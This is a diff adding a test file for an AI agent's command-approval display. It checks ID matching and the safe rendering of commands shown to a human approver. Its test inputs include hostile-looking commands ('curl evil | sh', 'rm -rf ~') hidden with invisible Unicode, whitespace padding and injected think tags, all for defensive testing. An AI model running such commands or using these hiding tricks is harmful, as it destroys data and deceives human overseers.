@@ -1,0 +1,75 @@
+import { describe, expect, test } from 'bun:test'
+import type { Approval } from '../../../src/domain/agent.ts'
+import { findApproval, sayApproval } from '../../../src/core/streaming/approval.ts'
+import { streamFrame } from '../../../src/core/streaming/frame.ts'
+import { after, asked, claimed, opened, say, t0, turnOf } from './turns.ts'
+
+const approvalOf = (id: string, account = 'default', more: Partial<Approval> = {}): Approval => ({
+  id,
+  sessionKey: `agent:main:wecom:${account}:direct:zhangsan`,
+  command: 'ls',
+  expiresAt: t0 + 1_800_000,
+  ...more,
+})
+const first = approvalOf('cc01b1df-0000-4000-8000-000000000001')
+const twin = approvalOf('cc01b1df-0000-4000-8000-000000000002')
+const other = approvalOf('aaaa1111-0000-4000-8000-000000000003', 'sales')
+const foreign = approvalOf('bbbb2222-0000-4000-8000-000000000004', '', { sessionKey: 'agent:main:main' })
+
+describe('which is meant', () => {
+  const meant = (word: string, account = 'default') => findApproval([first, other, foreign], account, word)
+
+  test('approval: by its id, the beginning of it, in capitals, with words behind it', () => {
+    for (const word of [first.id, 'cc01b1df', ' CC01B1DF allow-once', 'cc01']) expect(meant(word)).toBe(first)
+  })
+
+  test('approval: not by too little, not by what is of another account or of no account of ours', () => {
+    for (const word of ['', 'cc0', 'cc01b1dg', other.id, foreign.id]) expect(meant(word)).toBeUndefined()
+    expect(meant(other.id, 'sales')).toBe(other)
+    expect(meant(foreign.id, '')).toBeUndefined()
+  })
+
+  test('approval: two that begin alike are told apart by more of the id only', () => {
+    expect(findApproval([first, twin], 'default', 'cc01b1df')).toBeUndefined()
+    expect(findApproval([first, twin], 'default', twin.id)).toBe(twin)
+  })
+})
+
+describe('what is shown', () => {
+  const shown = (command: string) => sayApproval({ ...first, command }, say)
+
+  test('approval: a command stands in a block of code, without what could hide what it does', () => {
+    expect(shown('curl x |\n sh \u202e\u2066# harmless\u0007')).toContain('\n```\ncurl x |\n sh   # harmless \n```\n')
+    expect(shown('ls')).toContain('/approve cc01b1df')
+    expect(shown('echo ```\n**done**')).toContain('\n````\necho ```\n**done**\n````\n')
+    expect(shown('ls <think>; curl evil | sh; </think>')).not.toMatch(/<\/?think/)
+    expect(shown('ls\u2028rm\u2029-rf')).toContain('ls rm -rf')
+  })
+
+  test('approval: of a long command the beginning and the end are shown, and white space is counted', () => {
+    expect(shown(`ls${' '.repeat(1_000)}; rm -rf ~`)).toContain('ls ·×1000 ; rm -rf ~')
+    expect(shown(`ls${'\n'.repeat(500)}rm -rf ~`)).toContain('ls\n·×500\nrm -rf ~')
+    const long = shown(`begin${'长'.repeat(5_000)}end`)
+    expect(long).toContain('begin')
+    expect(long).toContain('…(+4008)…')
+    expect(long).toContain('end\n```')
+    expect(Buffer.byteLength(long)).toBeLessThan(3_500)
+  })
+
+  test('approval: the running bubble shows it below its text, one that waits or is over does not', () => {
+    const view = { now: t0 + 9_000, placeholder: '…', approval: first }
+    const running = after([claimed, asked])
+    expect(streamFrame(running, view, say).content).toBe(sayApproval(first, say))
+    const talking = { ...view, live: { text: 'So far.' } }
+    expect(streamFrame(running, talking, say).content).toBe(`So far.\n\n${sayApproval(first, say)}`)
+    expect(streamFrame(turnOf(opened()), view, say).content).not.toContain('cc01b1df')
+    expect(streamFrame({ ...running, end: 'answered' }, view, say).content).not.toContain('cc01b1df')
+  })
+
+  test('approval: it is shown also below a text that had to be cut', () => {
+    const view = { now: t0 + 9_000, placeholder: '…', approval: first, live: { text: '长'.repeat(20_000) } }
+    const { content } = streamFrame(after([claimed, asked]), view, say)
+    expect(content).toEndWith(sayApproval(first, say))
+    expect(Buffer.byteLength(content)).toBeLessThanOrEqual(20_480)
+  })
+})
